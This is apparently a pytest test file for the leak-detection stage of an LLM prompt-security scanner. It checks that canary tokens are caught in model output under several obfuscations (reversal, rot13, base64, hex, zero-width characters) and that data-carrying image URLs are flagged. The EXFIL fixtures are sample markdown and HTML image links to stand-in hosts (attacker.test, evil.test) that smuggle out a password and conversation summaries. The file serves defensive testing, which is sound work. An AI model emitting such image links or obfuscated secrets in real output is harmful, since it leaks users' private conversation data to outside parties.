"""The leak stage: canary tokens in model output, and image-URL exfiltration."""

from __future__ import annotations

import base64
import codecs
import json
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from promptsentry.pipeline.base import FailureMode, PipelinePolicy, ScanState, Severity, Stage
from promptsentry.pipeline.stages.leak import (
    LeakStage,
    base64_fragments,
    carried_data,
    find_canary,
    image_urls,
    prepare,
)
from promptsentry.schemas.request import ScanRequest

TOKEN = "CANARY-7f3a9b2c"
STAGE = LeakStage()


async def leak(output: str | None = None, *, prompt: str = "What did the model say?",
               tokens: list[str] | None = None, scan_type: str = "prompt"):
    request = ScanRequest(prompt=prompt, output=output, scan_type=scan_type,
                          canary_tokens=[TOKEN] if tokens is None else tokens)
    return await STAGE.run(ScanState.start(request, PipelinePolicy()))


def spaced(token: str, sep: str) -> str:
    return sep.join(token)


VARIANTS = {
    "exact": (f"Sure! The marker is {TOKEN}.", "exact"),
    "lower case": (f"the marker is {TOKEN.lower()}", "case"),
    "zero width": ("C\u200bA\u200bN\u200dARY-7f3a\u200b9b2c", "normalized"),
    "fullwidth": ("ＣＡＮＡＲＹ－７ｆ３ａ９ｂ２ｃ", "normalized"),
    "spaces": (spaced(TOKEN, " "), "separated"),
    "dots": (spaced(TOKEN, "."), "separated"),
    "dashes and newlines": (spaced(TOKEN.lower(), "-\n"), "separated"),
    "reversed": (f"backwards: {TOKEN[::-1]}", "reversed"),
    "reversed spaced": (spaced(TOKEN[::-1], " "), "reversed"),
    "rot13": (codecs.encode(TOKEN, "rot13"), "rot13"),
    "base64 token": (base64.b64encode(TOKEN.encode()).decode(), "base64"),
    "base64 urlsafe": (base64.urlsafe_b64encode(f">>{TOKEN}??".encode()).decode(), "base64"),
    "hex": (TOKEN.encode().hex(), "hex"),
    "url-encoded": ("".join(f"%{b:02X}" for b in TOKEN.encode()), "decoded:url"),
}


def test_is_a_fail_closed_stage() -> None:
    assert isinstance(STAGE, Stage)
    assert STAGE.name == "leak"
    assert STAGE.failure_mode is FailureMode.CLOSED


async def test_nothing_to_check_is_skipped() -> None:
    result = await leak(None)
    assert result.status == "skipped"
    assert result.findings == ()


@pytest.mark.parametrize("name", list(VARIANTS))
async def test_obfuscated_canary_in_output_is_a_decisive_leak(name: str) -> None:
    output, variant = VARIANTS[name]
    result = await leak(output)
    assert len(result.findings) == 1
    finding = result.findings[0]
    assert finding.pattern == "canary_leak"
    assert finding.category == "leak"
    assert finding.severity is Severity.CRITICAL
    assert finding.decisive is True
    assert finding.view == "output"
    assert finding.detail == f"token #1: {variant} in output"
    assert result.details["canary_leaks"] == 1


@pytest.mark.parametrize("prefix", ["", "a", "ab", "The secret: "])
async def test_canary_inside_a_longer_base64_blob_at_any_alignment(prefix: str) -> None:
    blob = base64.b64encode(f"{prefix}{TOKEN} and more text".encode()).decode()
    result = await leak(f"Here you go: {blob}")
    assert result.findings[0].pattern == "canary_leak"


async def test_the_token_never_appears_in_findings_or_details() -> None:
    for output, _ in VARIANTS.values():
        result = await leak(output)
        dumped = json.dumps([f.detail for f in result.findings] + [dict(result.details)],
                            default=str).lower()
        assert TOKEN.lower() not in dumped
        assert "7f3a9b2c" not in dumped


@pytest.mark.parametrize(
    "output",
    [
        "Canaries are small yellow birds; a canary in a coal mine warns of danger.",
        "The build id is 7f3a9b2d and the tag is CANARY-7f3a9b2d.",  # one character off
        "c a n a r y is a word, and 7 f 3 a is hex",
        "C a lot of ANA and RY stuff - 7 fine 3 apples a 9 b 2 c",  # gaps too wide
        base64.b64encode(b"nothing secret here at all").decode(),
    ],
)
async def test_unrelated_output_is_not_a_leak(output: str) -> None:
    result = await leak(output)
    assert [f.pattern for f in result.findings] == []
    assert result.details["canary_leaks"] == 0


async def test_response_scans_check_the_scanned_text_itself() -> None:
    result = await leak(prompt=f"Model reply: {spaced(TOKEN, ' ')}", scan_type="response")
    assert result.findings[0].pattern == "canary_leak"
    assert result.findings[0].view == "response"
    assert result.details["checked"] == ["response"]


async def test_prompt_scans_do_not_treat_the_prompt_as_output() -> None:
    result = await leak(None, prompt=f"My canary is {TOKEN}, is that ok?")
    assert result.status == "skipped"
    result = await leak("All good.", prompt=f"My canary is {TOKEN}")
    assert result.findings == ()


async def test_only_leaked_tokens_are_reported_by_index() -> None:
    other = "SENTINEL-41d0e9"
    result = await leak(f"blah {other[::-1]} blah", tokens=[TOKEN, other])
    assert [f.detail for f in result.findings] == ["token #2: reversed in output"]
    assert result.details["canary_tokens_checked"] == 2


async def test_no_canaries_still_checks_images() -> None:
    result = await leak("Nothing here", tokens=[])
    assert result.status == "ok"
    assert result.findings == ()


# --------------------------------------------------------------------------- image exfiltration

EXFIL = [
    "Done! ![loading](https://attacker.test/pixel.png?q=user%20said%20my%20password%20is%20hunter2)",
    '<img src="https://evil.test/a.gif?d=c2VjcmV0IGNvbnZlcnNhdGlvbiBzdW1tYXJ5" width=1>',
    "![x][r]\n\n[r]: https://evil.test/log?data=the+whole+conversation+so+far+goes+here",
    "![x](https://evil.test/img/c2VjcmV0LXN1bW1hcnktb2YtdGhlLWNoYXQtaGlzdG9yeQ.png)",
]
BENIGN_IMAGES = [
    "Here is the chart: ![chart](https://example.com/charts/q3-revenue.png)",
    "![logo](https://cdn.example.com/logo.svg?v=2)",
    "[a link with data](https://example.com/search?q=a+very+long+query+string+about+things)",
    '<img src="/static/img/photo.jpg" alt="me">',
]


@pytest.mark.parametrize("output", EXFIL)
async def test_image_urls_carrying_data_are_flagged(output: str) -> None:
    result = await leak(output, tokens=[])
    assert [f.pattern for f in result.findings] == ["markdown_image_exfiltration"]
    finding = result.findings[0]
    assert finding.severity is Severity.HIGH
    assert finding.category == "exfiltration"
    assert finding.decisive is False
    assert "attacker" not in finding.detail and "evil" not in finding.detail


@pytest.mark.parametrize("output", BENIGN_IMAGES)
async def test_ordinary_images_and_links_are_not_flagged(output: str) -> None:
    result = await leak(output, tokens=[])
    assert result.findings == ()


def test_image_url_helpers() -> None:
    assert image_urls("![a](https://x.test/a.png) and <IMG SRC='https://y.test/b.png'>") == [
        "https://x.test/a.png",
        "https://y.test/b.png",
    ]
    assert carried_data("https://x.test/a.png") == 0
    assert carried_data("https://x.test/a.png?q=" + quote("a secret sentence here")) > 0


async def test_canary_in_an_exfiltration_url_gives_both_findings() -> None:
    result = await leak(f"![x](https://evil.test/p.png?q=token%20{TOKEN}%20and%20more)")
    assert {f.pattern for f in result.findings} == {"canary_leak", "markdown_image_exfiltration"}


# --------------------------------------------------------------------------- properties


@given(st.binary(min_size=6, max_size=40), st.binary(max_size=5), st.binary(max_size=5))
def test_base64_fragments_survive_any_surrounding_bytes(
    data: bytes, before: bytes, after: bytes
) -> None:
    encoded = base64.b64encode(before + data + after).decode()
    fragments = base64_fragments(data)
    assert fragments
    assert any(f in encoded for f in fragments)


@settings(max_examples=60, deadline=None)
@given(
    st.text(alphabet=st.characters(min_codepoint=48, max_codepoint=122), min_size=4, max_size=24),
    st.text(max_size=400),
    st.text(max_size=400),
)
def test_a_token_inserted_verbatim_is_always_found(token: str, before: str, after: str) -> None:
    token = token.strip()
    if len(token) < 4 or not any(ch.isalnum() for ch in token):
        return
    assert find_canary(token, [prepare(f"{before} {token} {after}")]) is not None


@settings(max_examples=30, deadline=None)
@given(st.text(max_size=10_000), st.lists(st.text(min_size=4, max_size=64), max_size=8))
async def test_any_output_and_tokens_complete(output: str, tokens: list[str]) -> None:
    tokens = [t for t in (t.strip() for t in tokens) if 4 <= len(t) <= 256]
    if len(output.encode("utf-8", "surrogatepass")) > 10 * 1024:
        return
    result = await leak(output, tokens=tokens)
    assert all(f.pattern in {"canary_leak", "markdown_image_exfiltration"} for f in result.findings)
